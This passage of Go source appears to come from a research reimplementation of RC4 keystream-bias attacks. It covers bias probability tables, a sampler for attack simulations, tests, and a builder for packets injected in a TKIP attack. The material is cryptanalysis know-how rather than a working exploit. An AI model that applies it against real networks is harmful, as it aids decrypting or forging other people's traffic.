// Walker/Vose alias method: O(n) setup, O(1) per draw. Model-mode attack
// simulations draw billions of keystream digraphs, so constant-time
// sampling matters.
type Sampler struct {
	prob  []float64
	alias []int32
}

// NewSampler builds a sampler over weights (need not be normalized; all
// weights must be non-negative with a positive sum).
func NewSampler(weights []float64) *Sampler {
	n := len(weights)
	if n == 0 {
		panic("biases: empty weight vector")
	}
	var sum float64
	for _, w := range weights {
		if w < 0 {
			panic("biases: negative weight")
		}
		sum += w
	}
	if sum <= 0 {
		panic("biases: zero total weight")
	}
	s := &Sampler{
		prob:  make([]float64, n),
		alias: make([]int32, n),
	}
	scaled := make([]float64, n)
	small := make([]int32, 0, n)
	large := make([]int32, 0, n)
	for i, w := range weights {
		scaled[i] = w * float64(n) / sum
		if scaled[i] < 1 {
			small = append(small, int32(i))
		} else {
			large = append(large, int32(i))
		}
	}
	for len(small) > 0 && len(large) > 0 {
		l := small[len(small)-1]
		small = small[:len(small)-1]
		g := large[len(large)-1]
		large = large[:len(large)-1]
		s.prob[l] = scaled[l]
		s.alias[l] = g
		scaled[g] = scaled[g] + scaled[l] - 1
		if scaled[g] < 1 {
			small = append(small, g)
		} else {
			large = append(large, g)
		}
	}
	for _, g := range large {
		s.prob[g] = 1
	}
	for _, l := range small {
		s.prob[l] = 1 // numerical leftovers
	}
	return s
}

// Draw samples one value using rng.
func (s *Sampler) Draw(rng *rand.Rand) int {
	i := rng.Intn(len(s.prob))
	if rng.Float64() < s.prob[i] {
		return i
	}
	return int(s.alias[i])
}

// FMSampler returns a sampler over the 65536 digraph values at PRGA
// counter i, following the Fluhrer–McGrew model.
func FMSampler(i int) *Sampler {
	return NewSampler(FMDistribution(i))
}
