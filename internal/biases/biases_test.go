package biases

import (
	"math"
	"math/rand"
	"testing"
	"testing/quick"
)

func TestFMCellsDisjoint(t *testing.T) {
	// At every i, the biased cells must be distinct (the likelihood code
	// assumes each cell appears once).
	for i := 0; i < 256; i++ {
		seen := map[[2]byte]FMDigraph{}
		for _, c := range FMCells(i) {
			k := [2]byte{c.X, c.Y}
			if prev, dup := seen[k]; dup {
				t.Fatalf("i=%d: cell (%d,%d) in both %v and %v", i, c.X, c.Y, prev, c.Class)
			}
			seen[k] = c.Class
		}
	}
}

func TestFMCellsCountBound(t *testing.T) {
	// The paper: "at any position at most 8 out of 65536 value pairs show
	// a clear bias" — our generalized table allows a few more classes per i
	// but must stay small (that's what makes eq. 15 fast).
	for i := 0; i < 256; i++ {
		n := len(FMCells(i))
		if n == 0 || n > 10 {
			t.Fatalf("i=%d: %d biased cells", i, n)
		}
	}
}

func TestFMCellsTable1Conditions(t *testing.T) {
	has := func(i int, x, y byte, class FMDigraph) bool {
		for _, c := range FMCells(i) {
			if c.X == x && c.Y == y && c.Class == class {
				return true
			}
		}
		return false
	}
	if !has(1, 0, 0, FMZeroZeroI1) {
		t.Error("(0,0)@i=1 missing")
	}
	if has(255, 0, 0, FMZeroZero) {
		t.Error("(0,0) should be absent at i=255")
	}
	if !has(7, 0, 8, FMZeroIPlus1) {
		t.Error("(0,i+1) missing at i=7")
	}
	if !has(2, 129, 129, FM129_129) {
		t.Error("(129,129)@i=2 missing")
	}
	if has(3, 129, 129, FM129_129) {
		t.Error("(129,129) present at i=3")
	}
	if !has(254, 255, 0, FM255_Zero) {
		t.Error("(255,0)@i=254 missing")
	}
	if !has(255, 255, 1, FM255_One) {
		t.Error("(255,1)@i=255 missing")
	}
	if !has(0, 255, 2, FM255_Two) || !has(1, 255, 2, FM255_Two) {
		t.Error("(255,2)@i=0,1 missing")
	}
	if has(254, 255, 255, FM255_255) {
		t.Error("(255,255) present at i=254")
	}
	if !has(10, 255, 255, FM255_255) {
		t.Error("(255,255) missing at i=10")
	}
}

func TestFMRelativeBiasSigns(t *testing.T) {
	if FMZeroZeroI1.RelativeBias() != 1.0/128 {
		t.Error("(0,0)@i=1 should be 2^-7")
	}
	for _, neg := range []FMDigraph{FMZeroIPlus1, FM255_255} {
		if neg.RelativeBias() >= 0 {
			t.Errorf("%v should be negative", neg)
		}
	}
	if FMZeroZero.Probability() <= UPair {
		t.Error("(0,0) should exceed uniform")
	}
	if FMDigraph(-1).String() != "unknown" {
		t.Error("bad String for invalid class")
	}
	if FMZeroZero.String() != "(0,0)" {
		t.Errorf("String = %q", FMZeroZero.String())
	}
}

func TestFMDistributionNormalized(t *testing.T) {
	for _, i := range []int{0, 1, 2, 100, 254, 255} {
		dist := FMDistribution(i)
		var sum float64
		for _, p := range dist {
			if p <= 0 {
				t.Fatalf("i=%d: non-positive probability", i)
			}
			sum += p
		}
		if math.Abs(sum-1) > 1e-9 {
			t.Fatalf("i=%d: sum = %v", i, sum)
		}
		// Biased cells must deviate in the right direction.
		for _, c := range FMCells(i) {
			got := dist[int(c.X)*256+int(c.Y)]
			if (c.P > UPair) != (got > UPair) {
				t.Fatalf("i=%d cell (%d,%d): direction lost", i, c.X, c.Y)
			}
		}
	}
}

func TestABSABAlpha(t *testing.T) {
	// g=0: α = 2^-16 (1 + 2^-8 e^{-4/256}).
	want := UPair * (1 + math.Exp(-4.0/256)/256)
	if got := ABSABAlpha(0); math.Abs(got-want) > 1e-20 {
		t.Errorf("alpha(0) = %v, want %v", got, want)
	}
	// Monotonically decreasing toward uniform as the gap grows.
	prev := ABSABAlpha(0)
	for g := 1; g <= 256; g++ {
		cur := ABSABAlpha(g)
		if cur >= prev {
			t.Fatalf("alpha not decreasing at g=%d", g)
		}
		if cur <= UPair {
			t.Fatalf("alpha fell to uniform at g=%d", g)
		}
		prev = cur
	}
}

func TestABSABCopyProbConsistent(t *testing.T) {
	// The generative model must reproduce α: β + (1-β)u = α.
	for g := 0; g <= MaxUsefulGap; g++ {
		beta := ABSABCopyProb(g)
		if beta <= 0 || beta >= 1 {
			t.Fatalf("beta(%d) = %v out of range", g, beta)
		}
		got := beta + (1-beta)*UPair
		if math.Abs(got-ABSABAlpha(g)) > 1e-18 {
			t.Fatalf("beta inconsistent at g=%d", g)
		}
	}
}

func TestTable2Probabilities(t *testing.T) {
	// All Table 2 probabilities must be near 2^-16 (they are pair
	// probabilities with small relative biases).
	for _, b := range append(append([]PairBias{}, ConsecutiveKeyLengthBiases...), NonConsecutiveBiases...) {
		if p := b.P(); p < UPair/2 || p > UPair*2 {
			t.Errorf("bias at (%d,%d): probability %v implausible", b.A, b.B, p)
		}
		if b.A >= b.B {
			t.Errorf("bias rows must have A < B: (%d,%d)", b.A, b.B)
		}
		if b.RelSign != 1 && b.RelSign != -1 {
			t.Errorf("bias at (%d,%d): RelSign %d", b.A, b.B, b.RelSign)
		}
		// P must decompose as Base * (1 + q).
		if math.Abs(b.P()-b.Base()*(1+b.RelativeBias())) > 1e-18 {
			t.Errorf("bias at (%d,%d): decomposition inconsistent", b.A, b.B)
		}
	}
	// The consecutive family must be eq. 2: positions (16w-1, 16w), both
	// values 256-16w, negative dependency bias that weakens with w.
	for w := 1; w <= 7; w++ {
		b := ConsecutiveKeyLengthBiases[w-1]
		if b.A != 16*w-1 || b.B != 16*w {
			t.Errorf("w=%d: positions (%d,%d)", w, b.A, b.B)
		}
		if b.X != byte(256-16*w) || b.Y != b.X {
			t.Errorf("w=%d: values (%d,%d)", w, b.X, b.Y)
		}
		if b.RelativeBias() >= 0 {
			t.Errorf("w=%d: dependency bias should be negative", w)
		}
	}
	// Weakening: |dependency bias| decreases with w.
	for w := 1; w < 7; w++ {
		qa := math.Abs(ConsecutiveKeyLengthBiases[w-1].RelativeBias())
		qb := math.Abs(ConsecutiveKeyLengthBiases[w].RelativeBias())
		if qb >= qa {
			t.Errorf("dependency bias should weaken: w=%d %v -> %v", w, qa, qb)
		}
	}
}

func TestEqualityBiases(t *testing.T) {
	for _, e := range EqualityBiases {
		if e.P < USingle/2 || e.P > USingle*2 {
			t.Errorf("equality (%d,%d): probability %v implausible", e.A, e.B, e.P)
		}
	}
	// Signs: Z1=Z3 negative, Z1=Z4 positive, Z2=Z4 negative.
	if EqualityBiases[0].P >= USingle {
		t.Error("Pr[Z1=Z3] should be below uniform")
	}
	if EqualityBiases[1].P <= USingle {
		t.Error("Pr[Z1=Z4] should be above uniform")
	}
	if EqualityBiases[2].P >= USingle {
		t.Error("Pr[Z2=Z4] should be below uniform")
	}
}

func TestZ1Z2SetCells(t *testing.T) {
	for s := SetZ1_257mI_Zi0; s <= SetZ2_0_ZiI; s++ {
		for _, i := range []int{3, 16, 100, 256} {
			a, _, b, _ := s.Cell(i)
			if b != i {
				t.Errorf("set %d: target position %d != %d", s, b, i)
			}
			if a != 1 && a != 2 {
				t.Errorf("set %d: conditioning position %d", s, a)
			}
		}
	}
	// Spot-check set 1 at i=100: Z1 = 257-100 = 157, Zi = 0.
	a, x, b, y := SetZ1_257mI_Zi0.Cell(100)
	if a != 1 || x != 157 || b != 100 || y != 0 {
		t.Errorf("set 1 cell = (%d,%d,%d,%d)", a, x, b, y)
	}
	// Signs per §3.3.2.
	if SetZ1_257mI_Zi257m.PositiveRelativeBias() {
		t.Error("set 3 should be negative")
	}
	if !SetZ1_Im1_Zi1.PositiveRelativeBias() {
		t.Error("set 4 should be positive")
	}
	if SetZ2_0_Zi0.PositiveRelativeBias() || SetZ2_0_ZiI.PositiveRelativeBias() {
		t.Error("Z2 sets should be negative")
	}
}

func TestKeyLengthBiases(t *testing.T) {
	pos, val := KeyLengthBiasPosition(16)
	if pos != 16 || val != 240 {
		t.Errorf("KeyLengthBiasPosition(16) = (%d,%d)", pos, val)
	}
	pos, val = SingleByteKeyLengthBias(1)
	if pos != 272 || val != 32 {
		t.Errorf("SingleByteKeyLengthBias(1) = (%d,%d)", pos, val)
	}
	pos, val = SingleByteKeyLengthBias(7)
	if pos != 368 || val != 224 {
		t.Errorf("SingleByteKeyLengthBias(7) = (%d,%d)", pos, val)
	}
}

func TestSamplerMatchesDistribution(t *testing.T) {
	weights := []float64{1, 2, 3, 4}
	s := NewSampler(weights)
	rng := rand.New(rand.NewSource(1))
	counts := make([]int, 4)
	const n = 400000
	for i := 0; i < n; i++ {
		counts[s.Draw(rng)]++
	}
	for i, w := range weights {
		want := w / 10 * n
		if math.Abs(float64(counts[i])-want) > 5*math.Sqrt(want) {
			t.Errorf("bucket %d: count %d, want ~%v", i, counts[i], want)
		}
	}
}

func TestSamplerPanics(t *testing.T) {
	for _, weights := range [][]float64{nil, {0, 0}, {1, -1}} {
		func() {
			defer func() {
				if recover() == nil {
					t.Errorf("weights %v: no panic", weights)
				}
			}()
			NewSampler(weights)
		}()
	}
}

func TestSamplerProperty(t *testing.T) {
	// Every drawn index is within range and has positive weight.
	f := func(raw []uint8, seed int64) bool {
		if len(raw) < 2 {
			return true
		}
		weights := make([]float64, len(raw))
		var sum float64
		for i, r := range raw {
			weights[i] = float64(r)
			sum += weights[i]
		}
		if sum == 0 {
			return true
		}
		s := NewSampler(weights)
		rng := rand.New(rand.NewSource(seed))
		for i := 0; i < 100; i++ {
			v := s.Draw(rng)
			if v < 0 || v >= len(weights) {
				return false
			}
			if weights[v] == 0 {
				// Zero-weight cells may only be drawn with vanishing
				// probability from alias residue; treat as failure.
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Error(err)
	}
}

func TestFMSamplerFrequencies(t *testing.T) {
	// The FM biases are 2^-7/2^-8 relative — far below what a unit-test
	// sample can resolve — so here we only check the sampler's plumbing:
	// the (0,0) frequency at i=1 must sit within generous bounds of its
	// model probability, and draws must cover the full digraph range.
	s := FMSampler(1)
	rng := rand.New(rand.NewSource(7))
	const n = 1 << 21
	var zz int
	minV, maxV := 1<<30, -1
	for i := 0; i < n; i++ {
		v := s.Draw(rng)
		if v == 0 {
			zz++
		}
		if v < minV {
			minV = v
		}
		if v > maxV {
			maxV = v
		}
	}
	p := FMZeroZeroI1.Probability()
	want := p * n
	if math.Abs(float64(zz)-want) > 6*math.Sqrt(want) {
		t.Errorf("(0,0) count %d, want ~%.0f", zz, want)
	}
	if minV < 0 || maxV > 65535 {
		t.Errorf("draw range [%d,%d] out of bounds", minV, maxV)
	}
	if maxV-minV < 60000 {
		t.Errorf("draws cover only [%d,%d]", minV, maxV)
	}
}

func TestFMSamplerAmplifiedBias(t *testing.T) {
	// Sampler correctness on an FM-shaped but amplified distribution: give
	// (0,0) a 10% boost and confirm it shows up in the draws.
	dist := FMDistribution(1)
	dist[0] *= 1.10
	s := NewSampler(dist)
	rng := rand.New(rand.NewSource(11))
	const n = 1 << 23
	var zz, ref int
	for i := 0; i < n; i++ {
		v := s.Draw(rng)
		if v == 0 {
			zz++
		}
		if v == 0x0304 {
			ref++
		}
	}
	if float64(zz) < 1.04*float64(ref) {
		t.Errorf("amplified cell not visible: %d vs %d", zz, ref)
	}
}
