package biases

import "math"

// exp2p is 2^a * (1 + sign * 2^b) — the notation the paper's tables use for
// probabilities like 2^-15.94786 (1 - 2^-4.894).
func exp2p(a float64, sign int, b float64) float64 {
	return math.Exp2(a) * (1 + float64(sign)*math.Exp2(b))
}

// MantinShamirZ2Zero is the probability Pr[Z2 = 0] ≈ 2·2^-8 — the strongest
// single-byte bias in RC4 (§2.1.1).
const MantinShamirZ2Zero = 2.0 / 256

// PaulPreneelZ1Z2 is Pr[Z1 = Z2] = 2^-8 (1 - 2^-8).
var PaulPreneelZ1Z2 = exp2p(-8, -1, -8)

// IsobeZ1Z2Zero is Pr[Z1 = Z2 = 0] ≈ 3·2^-16.
const IsobeZ1Z2Zero = 3.0 / 65536

// KeyLengthBiasPosition reports the key-length dependent bias of Sen Gupta
// et al.: for key length l, keystream byte Z_l has a positive bias toward
// 256-l. With the paper's 16-byte keys that is Z16 toward 240.
func KeyLengthBiasPosition(keyLen int) (pos int, value byte) {
	return keyLen, byte(256 - keyLen)
}

// PairBias is one row of Table 2: a biased pair of keystream byte values at
// two (1-indexed) positions. The table expresses probabilities as
// 2^BaseLog2 (1 + RelSign·2^RelLog2): the base is the probability expected
// from the single-byte marginals alone, and the second factor is the
// relative dependency bias q of §3.1.
type PairBias struct {
	A        int  // first position (1-indexed)
	X        byte // value at A
	B        int  // second position
	Y        byte // value at B
	BaseLog2 float64
	RelSign  int // +1 or -1
	RelLog2  float64
}

// P is the absolute pair probability.
func (b PairBias) P() float64 { return exp2p(b.BaseLog2, b.RelSign, b.RelLog2) }

// Base is the single-byte-expected probability 2^BaseLog2.
func (b PairBias) Base() float64 { return math.Exp2(b.BaseLog2) }

// RelativeBias is the signed dependency bias q.
func (b PairBias) RelativeBias() float64 {
	return float64(b.RelSign) * math.Exp2(b.RelLog2)
}

// ConsecutiveKeyLengthBiases are Table 2's consecutive rows, the family of
// eq. 2: Pr[Z_{16w-1} = Z_{16w} = 256-16w] for w = 1..7 (16-byte keys).
var ConsecutiveKeyLengthBiases = []PairBias{
	{15, 240, 16, 240, -15.94786, -1, -4.894},
	{31, 224, 32, 224, -15.96486, -1, -5.427},
	{47, 208, 48, 208, -15.97595, -1, -5.963},
	{63, 192, 64, 192, -15.98363, -1, -6.469},
	{79, 176, 80, 176, -15.99020, -1, -7.150},
	{95, 160, 96, 160, -15.99405, -1, -7.740},
	{111, 144, 112, 144, -15.99668, -1, -8.331},
}

// NonConsecutiveBiases are Table 2's non-consecutive rows.
var NonConsecutiveBiases = []PairBias{
	{3, 4, 5, 4, -16.00243, +1, -7.912},
	{3, 131, 131, 3, -15.99543, +1, -8.700},
	{3, 131, 131, 131, -15.99347, -1, -9.511},
	{4, 5, 6, 255, -15.99918, +1, -8.208},
	{14, 0, 16, 14, -15.99349, +1, -9.941},
	{15, 47, 17, 16, -16.00191, +1, -11.279},
	{15, 112, 32, 224, -15.96637, -1, -10.904},
	{15, 159, 32, 224, -15.96574, +1, -9.493},
	{16, 240, 31, 63, -15.95021, +1, -8.996},
	{16, 240, 32, 16, -15.94976, +1, -9.261},
	{16, 240, 33, 16, -15.94960, +1, -10.516},
	{16, 240, 40, 32, -15.94976, +1, -10.933},
	{16, 240, 48, 16, -15.94989, +1, -10.832},
	{16, 240, 48, 208, -15.92619, -1, -10.965},
	{16, 240, 64, 192, -15.93357, -1, -11.229},
}

// EqualityBias is one of the eq. 3–5 biases: Pr[Za = Zb] = 2^-8 (1 ± 2^q).
type EqualityBias struct {
	A, B int
	P    float64
}

// EqualityBiases lists eqs. 3, 4, 5.
var EqualityBiases = []EqualityBias{
	{1, 3, exp2p(-8, -1, -9.617)},
	{1, 4, exp2p(-8, +1, -8.590)},
	{2, 4, exp2p(-8, -1, -9.622)},
}

// Z1Z2Set identifies one of the six §3.3.2 bias families induced by the
// first two keystream bytes on the whole initial 256 bytes.
type Z1Z2Set int

// The six families. For a target position i (3 <= i <= 256), each family
// fixes a value of Z1 or Z2 and a value of Zi. Byte arithmetic is mod 256.
const (
	SetZ1_257mI_Zi0    Z1Z2Set = iota + 1 // Z1 = 257-i ∧ Zi = 0     (positive)
	SetZ1_257mI_ZiI                       // Z1 = 257-i ∧ Zi = i     (positive)
	SetZ1_257mI_Zi257m                    // Z1 = 257-i ∧ Zi = 257-i (negative)
	SetZ1_Im1_Zi1                         // Z1 = i-1   ∧ Zi = 1     (positive)
	SetZ2_0_Zi0                           // Z2 = 0     ∧ Zi = 0     (negative)
	SetZ2_0_ZiI                           // Z2 = 0     ∧ Zi = i     (negative)
)

// Cell returns the (a, x, b, y) pair cell of the family at target position
// i: positions are 1-indexed, a is 1 or 2, b = i.
func (s Z1Z2Set) Cell(i int) (a int, x byte, b int, y byte) {
	bi := byte(i)
	switch s {
	case SetZ1_257mI_Zi0:
		return 1, byte(257 - i), i, 0
	case SetZ1_257mI_ZiI:
		return 1, byte(257 - i), i, bi
	case SetZ1_257mI_Zi257m:
		return 1, byte(257 - i), i, byte(257 - i)
	case SetZ1_Im1_Zi1:
		return 1, byte(i - 1), i, 1
	case SetZ2_0_Zi0:
		return 2, 0, i, 0
	case SetZ2_0_ZiI:
		return 2, 0, i, bi
	}
	panic("biases: unknown Z1Z2Set")
}

// PositiveRelativeBias reports the typical sign of the family's relative
// bias (§3.3.2: pairs involving Z1 are generally positive except set 3;
// pairs involving Z2 are generally negative).
func (s Z1Z2Set) PositiveRelativeBias() bool {
	switch s {
	case SetZ1_257mI_Zi257m, SetZ2_0_Zi0, SetZ2_0_ZiI:
		return false
	default:
		return true
	}
}

// SingleByteKeyLengthBias describes the §3.3.3 single-byte biases beyond
// position 256: Z_{256+16k} is biased toward 32k for 1 <= k <= 7.
func SingleByteKeyLengthBias(k int) (pos int, value byte) {
	return 256 + 16*k, byte(32 * k)
}

// LongTermZeroPair is Sen Gupta's Pr[(Z_{256w}, Z_{256w+2}) = (0,0)] =
// 2^-16 (1 + 2^-8), and LongTerm128Pair the paper's new eq. 8 companion
// bias toward (128, 0) at the same positions.
var (
	LongTermZeroPair = exp2p(-16, +1, -8)
	LongTerm128Pair  = exp2p(-16, +1, -8)
)
