// Package biases holds the analytic models of the RC4 keystream biases the
// paper catalogs and exploits: the generalized Fluhrer–McGrew digraph biases
// (Table 1), Mantin's ABSAB digraph-repetition bias (eq. 1), the short-term
// single-byte and pair biases of §2.1.1/§3.3, and the long-term biases of
// §3.4. It also provides samplers that draw keystream bytes from these
// models, powering the "model mode" attack simulations (the paper's own
// Figures 7, 8 and 10 are simulations in the same sense).
package biases

import "math"

// Uniform single- and double-byte probabilities.
const (
	USingle = 1.0 / 256
	UPair   = 1.0 / 65536
)

// FMDigraph identifies one generalized Fluhrer–McGrew digraph class.
type FMDigraph int

// The Fluhrer–McGrew digraph classes of Table 1.
const (
	FMZeroZeroI1 FMDigraph = iota // (0,0) at i = 1
	FMZeroZero                    // (0,0) at i != 1, 255
	FMZeroOne                     // (0,1) at i != 0, 1
	FMZeroIPlus1                  // (0,i+1) at i != 0, 255 (negative)
	FMIPlus1_255                  // (i+1,255) at i != 254
	FM129_129                     // (129,129) at i = 2
	FM255_IPlus1                  // (255,i+1) at i != 1, 254
	FM255_IPlus2                  // (255,i+2) at i in [1,252]
	FM255_Zero                    // (255,0) at i = 254
	FM255_One                     // (255,1) at i = 255
	FM255_Two                     // (255,2) at i = 0, 1
	FM255_255                     // (255,255) at i != 254 (negative)
	fmCount
)

var fmNames = [...]string{
	"(0,0)@i=1", "(0,0)", "(0,1)", "(0,i+1)", "(i+1,255)", "(129,129)@i=2",
	"(255,i+1)", "(255,i+2)", "(255,0)@i=254", "(255,1)@i=255", "(255,2)@i=0,1",
	"(255,255)",
}

// String names the digraph class as in Table 1.
func (d FMDigraph) String() string {
	if d < 0 || d >= fmCount {
		return "unknown"
	}
	return fmNames[d]
}

// RelativeBias returns the long-term relative bias q of the class, i.e. its
// probability is 2^-16 * (1 + q).
func (d FMDigraph) RelativeBias() float64 {
	switch d {
	case FMZeroZeroI1:
		return 1.0 / 128 // 2^-7
	case FMZeroIPlus1, FM255_255:
		return -1.0 / 256
	default:
		return 1.0 / 256
	}
}

// Probability returns the long-term probability of the digraph class.
func (d FMDigraph) Probability() float64 {
	return UPair * (1 + d.RelativeBias())
}

// FMCell is a concrete biased digraph cell at a specific PRGA counter.
type FMCell struct {
	X, Y  byte
	P     float64 // modeled probability of the cell
	Class FMDigraph
}

// FMCells returns the biased digraph cells active when the first byte of
// the digraph is produced at PRGA counter i (Table 1's conditions). The
// remaining 65536-len(cells) cells are modeled as uniform; the recovery
// code exploits exactly this sparsity via the eq. 15 optimization.
func FMCells(i int) []FMCell {
	i &= 0xff
	ip1 := byte(i + 1)
	ip2 := byte(i + 2)
	var cells []FMCell
	add := func(x, y byte, class FMDigraph) {
		cells = append(cells, FMCell{X: x, Y: y, P: class.Probability(), Class: class})
	}
	// (0,0)
	if i == 1 {
		add(0, 0, FMZeroZeroI1)
	} else if i != 255 {
		add(0, 0, FMZeroZero)
	}
	// (0,1)
	if i != 0 && i != 1 {
		add(0, 1, FMZeroOne)
	}
	// (0,i+1): skip when it would collide with (0,0) or (0,1) cells above.
	if i != 0 && i != 255 && ip1 != 0 && ip1 != 1 {
		add(0, ip1, FMZeroIPlus1)
	}
	// (i+1,255)
	if i != 254 && ip1 != 255 && ip1 != 0 {
		// ip1 == 255 (i=254) excluded by condition; ip1 == 0 would collide
		// with the (0,y) family — Table 1's conditions keep these disjoint
		// because i=255 rows are excluded there.
		add(ip1, 255, FMIPlus1_255)
	}
	// (129,129)
	if i == 2 {
		add(129, 129, FM129_129)
	}
	// (255,i+1)
	if i != 1 && i != 254 && ip1 != 0 && ip1 != 1 && ip1 != 2 && ip1 != 255 {
		add(255, ip1, FM255_IPlus1)
	}
	// (255,i+2)
	if i >= 1 && i <= 252 && ip2 != 0 && ip2 != 1 && ip2 != 2 && ip2 != 255 {
		add(255, ip2, FM255_IPlus2)
	}
	// (255,0)
	if i == 254 {
		add(255, 0, FM255_Zero)
	}
	// (255,1)
	if i == 255 {
		add(255, 1, FM255_One)
	}
	// (255,2)
	if i == 0 || i == 1 {
		add(255, 2, FM255_Two)
	}
	// (255,255)
	if i != 254 {
		add(255, 255, FM255_255)
	}
	return cells
}

// FMDistribution materializes the full 65536-cell digraph distribution at
// counter i, normalized to sum to 1. Row-major: index = x*256 + y.
func FMDistribution(i int) []float64 {
	dist := make([]float64, 65536)
	for n := range dist {
		dist[n] = UPair
	}
	for _, c := range FMCells(i) {
		dist[int(c.X)*256+int(c.Y)] = c.P
	}
	var sum float64
	for _, p := range dist {
		sum += p
	}
	inv := 1 / sum
	for n := range dist {
		dist[n] *= inv
	}
	return dist
}

// ABSABAlpha is Mantin's ABSAB bias strength α(g) (eq. 1/18): the
// probability that the digraph at position r repeats after a gap of g bytes,
//
//	Pr[(Zr, Zr+1) = (Zr+g+2, Zr+g+3)] = 2^-16 (1 + 2^-8 e^{(-4-8g)/256}).
func ABSABAlpha(gap int) float64 {
	return UPair * (1 + math.Exp((-4-8*float64(gap))/256)/256)
}

// ABSABCopyProb converts α(g) into the generative model used by the
// samplers: with probability β the later digraph copies the earlier one,
// otherwise it is uniform. Matching marginals gives
// α = β + (1-β)·2^-16, i.e. β = (α - 2^-16) / (1 - 2^-16).
func ABSABCopyProb(gap int) float64 {
	a := ABSABAlpha(gap)
	return (a - UPair) / (1 - UPair)
}

// MaxUsefulGap is the largest ABSAB gap the attacks use. The paper verified
// the bias empirically up to gaps of at least 135 and uses 128 (§4.2).
const MaxUsefulGap = 128
