package packet

import "testing"

// FuzzParsers hammers the header parsers with truncated and overlong
// inputs: no panic, no over-read, and the header-length helpers must
// never report a length outside the input.
func FuzzParsers(f *testing.F) {
	ip := IPv4{TTL: 64, Protocol: 6, SrcIP: [4]byte{10, 0, 0, 1}, DstIP: [4]byte{10, 0, 0, 2}, Length: 40}.Marshal()
	tcp := TCP{SrcPort: 80, DstPort: 443, Seq: 7, Flags: 0x18}.Marshal([4]byte{1}, [4]byte{2}, nil)
	f.Add(ip[:])
	f.Add(tcp[:])
	f.Add([]byte{})
	f.Fuzz(func(t *testing.T, data []byte) {
		_, _ = ParseIPv4(data)
		_, _ = ParseTCP(data)
		if n, err := IPv4HeaderLen(data); err == nil && (n < IPv4Size || n > len(data)) {
			t.Fatalf("IPv4HeaderLen out of range: %d of %d", n, len(data))
		}
		if n, err := TCPHeaderLen(data); err == nil && (n < TCPSize || n > len(data)) {
			t.Fatalf("TCPHeaderLen out of range: %d of %d", n, len(data))
		}
		_ = VerifyTCPChecksum(data, [4]byte{}, [4]byte{})
	})
}
