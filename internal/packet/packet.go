// Package packet builds the plaintext MSDU layout of Figure 2: the LLC/SNAP
// encapsulation header followed by an IPv4 header, a TCP header and an
// optional payload. The TKIP attack needs byte-exact plaintext of everything
// except the MIC and ICV (and the handful of fields §5.3 derives via
// checksum pruning — internal IP, client port, TTL), so this package is the
// single source of truth for where every field of the injected packet sits.
package packet

import (
	"encoding/binary"
	"errors"

	"rc4break/internal/checksum"
)

// Header sizes (bytes) of the layers in the injected packet. The paper's
// §5.2 observation: LLC/SNAP + IP + TCP is 48 bytes, so with a 7-byte TCP
// payload the MIC lands at offsets 56..63 and the ICV at 64..67 (1-indexed
// keystream positions 56..60 in the paper's counting of strongly biased
// positions).
const (
	LLCSNAPSize = 8
	IPv4Size    = 20
	TCPSize     = 20
)

// LLCSNAP returns the 8-byte LLC/SNAP header for the given EtherType
// (0x0800 for IPv4).
func LLCSNAP(etherType uint16) [LLCSNAPSize]byte {
	var h [LLCSNAPSize]byte
	h[0], h[1], h[2] = 0xaa, 0xaa, 0x03 // SNAP DSAP/SSAP/control
	// h[3:6] = OUI 00:00:00 (encapsulated Ethernet)
	binary.BigEndian.PutUint16(h[6:8], etherType)
	return h
}

// IPv4 describes the fields of the (option-less) IPv4 header we model.
type IPv4 struct {
	TTL      byte
	Protocol byte // 6 = TCP
	SrcIP    [4]byte
	DstIP    [4]byte
	ID       uint16
	Length   uint16 // total length including header
}

// Marshal serializes the header with a correct checksum.
func (h IPv4) Marshal() [IPv4Size]byte {
	var b [IPv4Size]byte
	b[0] = 0x45 // version 4, IHL 5
	binary.BigEndian.PutUint16(b[2:4], h.Length)
	binary.BigEndian.PutUint16(b[4:6], h.ID)
	b[8] = h.TTL
	b[9] = h.Protocol
	copy(b[12:16], h.SrcIP[:])
	copy(b[16:20], h.DstIP[:])
	ck := checksum.Internet(b[:])
	binary.BigEndian.PutUint16(b[10:12], ck)
	return b
}

// Typed parse errors: the trace-ingestion path classifies per-packet
// failures (count-and-skip versus abort) by identity, and fuzzing pins
// that no input can panic or over-read past these checks.
var (
	// ErrTruncated reports input shorter than the fixed header it claims
	// to hold.
	ErrTruncated = errors.New("packet: truncated header")
	// ErrNotIPv4 reports a version nibble other than 4.
	ErrNotIPv4 = errors.New("packet: not an IPv4 header")
	// ErrHeaderLength reports an IHL or TCP data-offset field that is
	// smaller than the minimum header or runs past the input.
	ErrHeaderLength = errors.New("packet: header length field out of range")
)

// ParseIPv4 decodes a 20-byte header. It does not verify the checksum; use
// checksum.InternetValid for that (the attack does so when pruning).
func ParseIPv4(b []byte) (IPv4, error) {
	if len(b) < IPv4Size {
		return IPv4{}, ErrTruncated
	}
	if b[0]>>4 != 4 {
		return IPv4{}, ErrNotIPv4
	}
	if b[0]&0x0f < 5 {
		return IPv4{}, ErrHeaderLength
	}
	var h IPv4
	h.Length = binary.BigEndian.Uint16(b[2:4])
	h.ID = binary.BigEndian.Uint16(b[4:6])
	h.TTL = b[8]
	h.Protocol = b[9]
	copy(h.SrcIP[:], b[12:16])
	copy(h.DstIP[:], b[16:20])
	return h, nil
}

// TCP describes the fields of the (option-less) TCP header we model.
type TCP struct {
	SrcPort uint16
	DstPort uint16
	Seq     uint32
	Ack     uint32
	Flags   byte
	Window  uint16
}

// Marshal serializes the TCP header with a correct checksum over the
// IPv4 pseudo-header and the given payload.
func (h TCP) Marshal(srcIP, dstIP [4]byte, payload []byte) [TCPSize]byte {
	var b [TCPSize]byte
	binary.BigEndian.PutUint16(b[0:2], h.SrcPort)
	binary.BigEndian.PutUint16(b[2:4], h.DstPort)
	binary.BigEndian.PutUint32(b[4:8], h.Seq)
	binary.BigEndian.PutUint32(b[8:12], h.Ack)
	b[12] = 5 << 4 // data offset: 5 words
	b[13] = h.Flags
	binary.BigEndian.PutUint16(b[14:16], h.Window)
	ck := tcpChecksum(b[:], srcIP, dstIP, payload)
	binary.BigEndian.PutUint16(b[16:18], ck)
	return b
}

// IPv4HeaderLen validates and returns the header length the IHL field
// declares: at least IPv4Size and no longer than the input. Parsers that
// slice the payload after an (optionally option-bearing) header must use
// this rather than assuming 20 bytes.
func IPv4HeaderLen(b []byte) (int, error) {
	if len(b) < IPv4Size {
		return 0, ErrTruncated
	}
	n := int(b[0]&0x0f) * 4
	if n < IPv4Size || n > len(b) {
		return 0, ErrHeaderLength
	}
	return n, nil
}
